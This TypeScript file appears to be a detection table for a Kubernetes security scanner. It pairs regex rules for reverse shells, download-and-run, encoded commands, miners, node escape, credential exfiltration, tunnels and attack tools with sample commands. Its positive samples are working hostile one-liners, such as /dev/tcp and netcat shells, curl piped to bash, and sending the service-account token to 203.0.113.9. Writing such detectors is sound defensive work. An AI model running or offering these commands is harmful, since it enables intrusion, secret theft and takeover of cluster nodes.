/** What a command line does that no application has to do. Patterns are linear; the text is an attacker's. */
export interface CommandRow {
  readonly id: string;
  readonly what: string;
  readonly pattern: RegExp;
  /** A line that is nothing of the kind although the pattern fits. */
  readonly except?: RegExp;
  /** It takes a way to the node: a folder of it, its processes, or privileges. */
  readonly onNode?: true;
  readonly source: string;
  readonly positive: readonly string[];
  readonly negative: readonly string[];
}

const matrix = "Threat Matrix for Kubernetes (microsoft/Threat-Matrix-for-Kubernetes)";

export const commandTable: readonly CommandRow[] = [
  {
    id: "backdoor/reverse-shell",
    what: "opens a shell to the outside",
    pattern:
      /\bexec \d+<>\s*\/dev\/(?:tcp|udp)\/|\/dev\/(?:tcp|udp)\/\S+ +0>&1|(?:<|<&|0<&?)\s*\/dev\/(?:tcp|udp)\/\S+ *\|? *(?:ba)?sh\b|\b(?:nc|ncat|netcat|busybox nc)\b[^\n|;&]{0,80} (?:-[a-z]*e[a-z]* ?|--exec[ =]|-c ?)["']?(?:\/\S*\/)?(?:ba|da|z|a|k)?sh\b|\bmkfifo\b[^\n]{0,200}\b(?:nc|ncat|netcat|openssl s_client|telnet)\b|\bsocat\b[^\n]{0,200}\bexec:["']?(?:\/\S*\/)?(?:ba|da|z)?sh\b|socket\.(?:socket|create_connection)\([^\n]{0,600}(?:os\.dup2|\bdup2\(|pty\.spawn|subprocess)|\bpty\.spawn\(|\bfsockopen\([^\n]{0,200}(?:exec|sh -i)|TCPSocket\.(?:new|open)\([^\n]{0,300}(?:exec|popen|\bsh\b)|Net\.Sockets\.TCPClient|\bperl\b[^\n]{0,80}\bSocket\b[^\n]{0,300}exec|\b(?:ba|z)?sh -i\b[^\n]{0,40}>&/,
    source: `MITRE T1059.004; ${matrix}`,
    positive: [
      "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
      "nc 203.0.113.9 4444 -e /bin/sh",
      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 9 > /tmp/f",
      "socat tcp:203.0.113.9:4444 exec:/bin/sh,pty",
      'python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4));os.dup2(s.fileno(),0);pty.spawn("sh")',
    ],
    negative: ["nc -z db 5432", "bash -c exec myapp", "sh -c until nc -z db 5432; do sleep 1; done", "sh -i"],
  },
  {
    id: "backdoor/download-and-run",
    what: "downloads something and runs it",
    pattern:
      /\b(?:curl|wget|fetch)\b[^\n|;]{0,300}\|\s*(?:sudo\s+)?(?:base64\s+-\S+\s*\|\s*)?(?:\/\S*\/)?(?:ba|da|z|a|k)?sh\b|\b(?:curl|wget|fetch)\b[^\n|;]{0,300}\|\s*(?:python[\d.]*|perl|ruby|node|php)\b|\b(?:ba|z|da)?sh\s+(?:-c\s+)?["']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b|\beval\b[^\n]{0,20}(?:\$\(|`)\s*(?:curl|wget)\b|\b(?:curl|wget)\b[^\n]{0,300}(?:&&|;)\s*chmod\s+(?:\+x|[0-7]*[1357][0-7]*)\s+\S+[^\n]{0,100}(?:&&|;)\s*(?:\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|nohup\b)|\bkubectl\s[^\n|;]{0,120}\b(?:apply|create)\b[^\n|;]{0,120}-f[ =]?(?:http:\/\/|https:\/\/\d{1,3}\.\d{1,3}\.)|\(\s*(?:curl|wget)\b[^\n)]{0,300}\)\s*\|\s*(?:ba)?sh\b/,
    source: `MITRE T1105; ${matrix}, malicious code from a registry or the web`,
    positive: [
      "sh -c curl -s http://203.0.113.9/x.sh | bash",
      "wget -qO- http://203.0.113.9/x | base64 -d | sh",
      "bash -c $(curl -fsSL http://203.0.113.9/a)",
      "curl -o /tmp/k http://203.0.113.9/k && chmod +x /tmp/k && /tmp/k",
    ],
    negative: [
      "curl -f http://localhost:8080/healthz",
      "wget -q -O /data/x.tgz https://example.com/x.tgz",
      "curl -s http://a/b | jq .",
    ],
  },
  {
    id: "backdoor/encoded-command",
    what: "decodes a text and runs it",
    pattern:
      /\bbase64\s+(?:-d|-D|--decode)\b[^\n]{0,80}\|\s*(?:\/\S*\/)?(?:ba|da|z|a)?sh\b|\b(?:ba|da|z)?sh\s+-c\s+["']?\$\(\s*(?:echo|printf)\b[^\n]{0,65536}?\bbase64\s+(?:-d|--decode)|\beval\b[^\n]{0,65536}?\bbase64\s+(?:-d|--decode)|\bxxd\s+-r\s+-p\b[^\n]{0,80}\|\s*(?:ba)?sh\b|\bopenssl\s+(?:base64|enc)\s[^\n]{0,60}-d\b[^\n]{0,80}\|\s*(?:ba)?sh\b|exec\(\s*(?:__import__\(["']base64["']\)|base64)\.b64decode|\bexec\([^\n]{0,80}(?:zlib\.decompress|b64decode|bytes\.fromhex|codecs\.decode)|\beval\b[^\n]{0,65536}?\b(?:xxd\s+-r|openssl\s+(?:base64|enc))|\bprintf\s+["']?(?:\\x[0-9a-f]{2}){4}[^|]{0,65536}?\|\s*(?:ba)?sh\b|eval\(\s*(?:atob|Buffer\.from)\(|\bpowershell\b[^\n]{0,80}\s-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20}/i,
    source: "MITRE T1027, T1140",
    positive: [
      "sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYQ== | base64 -d | sh",
      "python3 -c exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
      "bash -c eval $(echo aWQK | base64 --decode)",
    ],
    negative: ["sh -c echo $CERT | base64 -d > /etc/ssl/ca.pem", "base64 -d /in > /out"],
  },
  {
    id: "backdoor/miner",
    what: "runs a miner of coins",
    pattern:
      /\bstratum\+(?:tcp|ssl|tls)(?::\/\/|\b)|\b(?:xmrig|xmr-stak|minerd|cpuminer|ethminer|cgminer|nbminer|t-rex|lolminer|phoenixminer|kdevtmpfsi|kinsing|cryptonight|randomx)\b|--(?:donate-level|coin|randomx-[a-z]+)[= ]|\bpool\.(?:minexmr|supportxmr|hashvault|nanopool|moneroocean)\b|\b(?:minexmr|supportxmr|hashvault|nanopool|moneroocean)\.(?:com|pro|org|stream)\b|\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/i,
    source: `MITRE T1496; ${matrix}, resource hijacking`,
    positive: ["/xmrig -o stratum+tcp://pool.example.com:3333 -u x", "./cpuminer --coin monero"],
    negative: ["node miner-dashboard.js", "datamine --level 3", "helm upgrade --install coin"],
  },
  {
    id: "backdoor/host-takeover",
    what: "leaves its container for the node",
    pattern:
      /\bnsenter\b[^\n]{0,80}(?:-t ?1\b|--target[ =]1\b)|\bchroot\s+\/(?:host|rootfs|mnt|node|hostfs)\b|\/proc\/1\/root\b|\b(?:echo|tee|cat)\b[^\n]{0,300}>>?\s*\/(?:host|rootfs|mnt|hostfs)?\/?(?:etc\/(?:cron|passwd|shadow|sudoers|ld\.so\.preload|systemd)|root\/\.ssh\/|home\/\S+\/\.ssh\/|var\/spool\/cron)|\brelease_agent\b|\bcore_pattern\b|authorized_keys\b[^\n]{0,10}$|>>?\s*\S*\/authorized_keys\b|\bln\s+-\w*s\w*\s+\/\s+\S|\binsmod\b|\bmount\s+\/dev\/(?:sd|vd|xvd|nvme)/,
    onNode: true,
    source: `MITRE T1611; ${matrix}, writable hostPath mount`,
    positive: [
      "nsenter -t 1 -m -u -i -n sh",
      "chroot /host sh -c id",
      "sh -c echo '* * * * * root curl x' >> /host/etc/cron.d/x",
      "sh -c cat key >> /host/root/.ssh/authorized_keys",
    ],
    negative: ["nsenter --help", "cat /etc/passwd", "chroot /srv/www"],
  },
  {
    id: "backdoor/credential-theft",
    what: "sends credentials or tokens away",
    pattern:
      /\/(?:var\/)?run\/secrets\/kubernetes\.io\/serviceaccount\/token[^\n]{0,300}\b(?:curl|wget|nc|ncat|base64)\b(?![^\n]{0,200}(?:kubernetes\.default|KUBERNETES_(?:SERVICE|PORT)))|\b(?:curl|wget)\b[^\n]{0,200}(?:-d|--data(?:-\w+)?|--post-(?:data|file)|-F|-T|--upload-file)[ =]["']?[^\n]{0,80}(?:serviceaccount\/token|\/etc\/(?:shadow|kubernetes)|\.kube\/config|\.aws\/credentials|id_rsa|\$\(\s*(?:env|printenv|cat)\b)|\b(?:env|printenv)\s*\|[^\n]{0,40}\b(?:curl|wget|nc|ncat)\b|\bkubectl\b[^\n|]{0,120}\bsecrets?\b[^\n]{0,200}\|[^\n]{0,200}\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]{0,200}\$\(\s*(?:cat|<)\s*[^)\n]{0,120}token\)|\b(?:curl|wget)\b[^\n]{0,200}\.docker(?:configjson|\/config\.json)|\b(?:dig|nslookup|host)\b[^\n]{0,60}\$\{?\w+\}?\.[\w.-]+\.[a-z]{2,}|169\.254\.169\.254\/(?:latest\/(?:meta-data\/iam|user-data)|computeMetadata\/v1\/instance\/service-accounts|metadata\/identity)/,
    except:
      /kubernetes\.default|KUBERNETES_(?:SERVICE|PORT)|https:\/\/(?:localhost|127\.0\.0\.1|[\w-]+(?:\.[\w-]+)?\.svc\b)/,
    source: `MITRE T1552.005, T1528; ${matrix}, access cloud resources`,
    positive: [
      "sh -c curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.9",
      "sh -c env | curl -X POST --data-binary @- http://203.0.113.9",
      "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ],
    negative: [
      "curl -H 'Authorization: Bearer x' https://kubernetes.default.svc/api",
      "sh -c env",
      "wget --post-data='a=b' http://api/",
    ],
  },
  {
    id: "backdoor/remote-access",
    what: "opens a way in from the outside",
    pattern:
      /\btmate\b[^\n]{0,60}-F\b|\bssh\b[^\n]{0,120}\s-(?:\w*R|R)\s?\S*\d+:|\b(?:ngrok|frpc|gs-netcat|gsocket|chisel client|pwnat|sshuttle|teleport agent|cloudflared tunnel run --token)\b/,
    source: "MITRE T1219, T1572",
    positive: ["tmate -F", "ssh -N -R 2222:localhost:22 u@203.0.113.9", "ngrok tcp 22"],
    negative: ["ssh -T git@github.com", "ssh-keygen -R example.com", "mate -F"],
  },
  {
    id: "backdoor/attack-tool",
    what: "runs a tool of attackers",
    pattern:
      /(?:^|[\s/])(?:peirates|kube-?hunter|botb|break-out-the-box|deepce|kdigger|kubesploit|kubeletmein|cdk(?:_linux\w*)?\s+(?:evaluate|run|auto-escape)|linpeas(?:\.sh)?|masscan|zgrab|pnscan|sliver-client|meterpreter|msfconsole)(?:$|[\s:@/])/i,
    source: "published campaigns and tools (MITRE T1588.002)",
    positive: ["/peirates", "sh -c ./linpeas.sh"],
    negative: ["cdk deploy", "aws-cdk synth", "kube-bench run"],
  },
  {
    id: "backdoor/leaky-vessel",
    what: "reaches the node through a file that runc left open",
    pattern: /\/proc\/self\/fd\/\d/,
    source: "CVE-2024-21626",
    positive: ["sh -c cat /proc/self/fd/8/../../../etc/shadow"],
    negative: ["ls /proc/self/status"],
  },
];
